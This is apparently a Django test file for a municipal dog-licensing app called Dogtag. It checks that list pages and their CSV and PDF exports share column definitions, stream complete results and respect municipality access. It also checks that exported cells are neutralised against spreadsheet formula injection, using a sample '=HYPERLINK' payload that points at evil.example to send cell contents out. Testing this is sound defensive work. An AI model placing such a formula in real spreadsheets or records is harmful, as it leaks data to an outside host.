"""Every list page and report is a table object (lib/tables.py): the page shows a page of it,
the CSV (complete, streamed, scoped like the page) and the PDF every row, all under the columns
of the one definition; and no cell leaves Dogtag as a spreadsheet formula."""

import csv
import io
from datetime import date
from html.parser import HTMLParser
from unittest.mock import patch

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from dogtag.accounts.models import Role
from dogtag.enforcement import tables as enforcement_tables
from dogtag.enforcement.models import Case
from dogtag.imports.models import ImportRun
from dogtag.lib.tables import FORMULA_STARTS, Column, Report, cell, csv_lines, neutralise, table
from dogtag.registry import actions
from tests.base import BaseTestCase, make_user, on, text
from tests.licensing.base import benton_license

LIST_PAGES = [
    ("search", []),
    ("fees", ["benton"]),
    ("tags", ["benton"]),
    ("tag-return", ["benton", 2026]),
    ("unlicensed", ["benton"]),
    ("renewals", ["benton"]),
    ("outbox", ["benton"]),
    ("kennels", ["benton"]),
    ("multiple-dog-licenses", ["benton"]),
    ("application-queue", ["benton"]),
    ("my-cases", []),
    ("municipality-cases", ["benton"]),
    ("hen-permits", ["webster"]),
    ("import", ["benton"]),
    ("amendments", ["benton"]),
]
# The reports that list animals one by one: paged on screen like a list page.
REPORT_LISTS = [("report-unlicensed", ["benton"]), ("report-rabies-expiring", ["benton"])]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text(response))))


class _Tables(HTMLParser):
    """The tables of a page: their class and their column headings."""

    def __init__(self):
        super().__init__()
        self.tables, self._th = [], None

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append((dict(attrs).get("class"), []))
        elif tag == "th" and self.tables:
            self._th = ""

    def handle_data(self, data):
        if self._th is not None:
            self._th += data

    def handle_endtag(self, tag):
        if tag == "th" and self._th is not None:
            self.tables[-1][1].append(self._th.strip())
            self._th = None


def tables_of(response) -> list[tuple[str | None, list[str]]]:
    parser = _Tables()
    parser.feed(text(response))
    return parser.tables


def test_a_formula_is_neutralised_and_a_number_is_not():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Pat Owner") == "Pat Owner"
    assert cell(EVIL) == "'" + EVIL
    from decimal import Decimal

    assert cell(Decimal("-5")) == "-5.00"  # a refund is a number, not a formula
    assert cell(-3) == "-3"
    report = Report("R", "", [table("People", [Column("Name", "name")], [type("P", (), {"name": EVIL})()])])
    assert list(csv.reader(csv_lines(report))) == [["Name"], ["'" + EVIL]]


@on(date(2026, 11, 29))
class ListCsvTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        benton_license(cls)
        cls.staff = make_user(
            "staffer", (cls.benton, Role.CLERK), (cls.benton, Role.OFFICER), (cls.webster, Role.CLERK)
        )

    def test_every_list_page_offers_and_serves_csv_and_pdf(self):
        self.login(self.staff)
        for name, args in LIST_PAGES:
            with self.subTest(name):
                url = reverse(name, args=args)
                query = {"q": "Rex"} if name == "search" else {}
                page = self.client.get(url, query)
                self.assertContains(page, "Export this list as CSV")
                r = self.client.get(url, {"format": "csv", **query})
                self.assertEqual(r.status_code, 200)
                self.assertEqual(r["Content-Type"], "text/csv; charset=utf-8")
                self.assertTrue(r.streaming)
                self.assertTrue(rows_of(r))
                pdf = self.client.get(url, {"format": "pdf", **query})
                self.assertEqual(pdf.status_code, 200)
                self.assertTrue(pdf.content.startswith(b"%PDF"))

    def test_every_list_page_shows_the_columns_its_export_has(self):
        """No list page draws a table of its own: each table on it is the rendered definition,
        and its headings are a header row of the page's CSV."""
        self.login(self.staff)
        for name, args in LIST_PAGES + REPORT_LISTS:
            with self.subTest(name):
                url = reverse(name, args=args)
                query = {"q": "Rex"} if name == "search" else {}
                shown = tables_of(self.client.get(url, query))
                self.assertTrue(shown)
                self.assertEqual([cls for cls, _ in shown], ["list"] * len(shown), "a hand-written table")
                exported = rows_of(self.client.get(url, {"format": "csv", **query}))
                for _, headings in shown:
                    self.assertIn(headings, exported)

    def test_a_column_added_to_the_definition_shows_on_the_page_and_in_the_export(self):
        self.login(self.staff)
        url = reverse("municipality-cases", args=["benton"])
        with patch.object(enforcement_tables, "CASES", [*enforcement_tables.CASES, Column("Kind", "kind")]):
            (table_shown,) = tables_of(self.client.get(url))
            exported = rows_of(self.client.get(url, {"format": "csv"}))
        self.assertEqual(table_shown[1], ["Case", "Opened", "Animal", "Owner", "Status", "Closed on", "Kind"])
        self.assertEqual(exported[0], table_shown[1])

    def test_the_search_export_holds_what_the_page_shows(self):
        self.login(self.clerk)
        rows = rows_of(self.client.get("/search/", {"q": "Rex", "format": "csv"}))
        self.assertIn(["Animals"], rows)
        self.assertTrue(any(row[:1] == ["Rex"] for row in rows))

    def test_another_municipalitys_clerk_gets_no_rows(self):
        self.login(self.outsider)
        self.assertEqual(self.client.get(reverse("unlicensed", args=["benton"]), {"format": "csv"}).status_code, 404)
        self.assertEqual(
            self.client.get(reverse("municipality-cases", args=["benton"]), {"format": "csv"}).status_code, 404
        )
        self.assertNotIn("Rex", text(self.client.get("/search/", {"q": "Rex", "format": "csv"})))


class CompleteExportTests(BaseTestCase):
    def test_a_list_of_ten_thousand_exports_ten_thousand_rows(self):
        Case.objects.bulk_create(
            Case(municipality=self.benton, kind=Case.Kind.COMPLAINT, title=f"Barking {i}", opened_on=date(2026, 1, 2))
            for i in range(10_000)
        )
        self.login(self.officer)
        url = reverse("municipality-cases", args=["benton"])
        with CaptureQueriesContext(connection) as queries:
            page = self.client.get(url)
        # The page counts the cases and reads its 100 in the database: two queries, whatever the total.
        self.assertEqual(sum('FROM "enforcement_case"' in q["sql"] for q in queries.captured_queries), 2)
        self.assertContains(page, "Barking", count=100)  # the page shows 100 of them
        self.assertContains(page, "Page 1 of 100 (10000 in all)")
        self.assertContains(self.client.get(url, {"page": 100}), "Barking 0<")  # the last page, the first case
        with CaptureQueriesContext(connection) as queries:
            rows = rows_of(self.client.get(url, {"format": "csv"}))
        # One query reads the cases, its rows fetched in chunks as the CSV is written.
        self.assertEqual(sum('FROM "enforcement_case"' in q["sql"] for q in queries.captured_queries), 1)
        self.assertEqual(rows[0], ["Case", "Opened", "Animal", "Owner", "Status", "Closed on"])
        self.assertEqual(len(rows), 1 + 10_000)
        self.assertEqual(len({row[0] for row in rows[1:]}), 10_000)


@on(date(2026, 11, 29))
class FormulaInjectionTests(BaseTestCase):
    """A person, an animal and a file named with a formula, through every path CSV leaves by.
    (Dogtag writes no Excel file; the import's refusals are shown on its page, not exported.)"""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        benton_license(cls)
        cls.evil = actions.create_person(
            acting_user=cls.clerk,
            municipality=cls.benton,
            name=EVIL,
            street="1 A St",
            city="Benton",
            postal_code="53803",
        )
        cls.evil_dog = actions.register_animal(
            acting_user=cls.clerk,
            municipality=cls.benton,
            owner=cls.evil,
            name=EVIL,
            breed="Mutt",
            color="black",
            sex="male",
            birth_date=date(2024, 3, 1),
            acquired_on=date(2024, 5, 1),
        )
        Case.objects.create(municipality=cls.benton, kind=Case.Kind.COMPLAINT, title=EVIL, owner=cls.evil)
        ImportRun.objects.create(
            municipality=cls.benton, file_name=EVIL + ".csv", file_sha256="0" * 64, started_by=cls.clerk
        )
        cls.staff = make_user("staffer", (cls.benton, Role.CLERK), (cls.benton, Role.OFFICER))

    def assert_neutralised(self, response):
        body = text(response)
        cells = [c for row in csv.reader(io.StringIO(body)) for c in row if "HYPERLINK" in c]
        self.assertTrue(any(c.startswith("'=") for c in cells), body[:500])
        for c in cells:
            self.assertFalse(c.startswith(FORMULA_STARTS), c)

    def test_no_export_carries_the_formula(self):
        self.login(self.staff)
        paths = {
            "search": ("/search/", {"q": "HYPERLINK"}),
            "unlicensed list": (reverse("unlicensed", args=["benton"]), {}),
            "municipality's cases": (reverse("municipality-cases", args=["benton"]), {}),
            "unlicensed report": (reverse("report-unlicensed", args=["benton"]), {}),
            "imports": (reverse("import", args=["benton"]), {}),
        }
        for name, (url, query) in paths.items():
            with self.subTest(name):
                r = self.client.get(url, {"format": "csv", **query})
                self.assertEqual(r.status_code, 200)
                self.assert_neutralised(r)
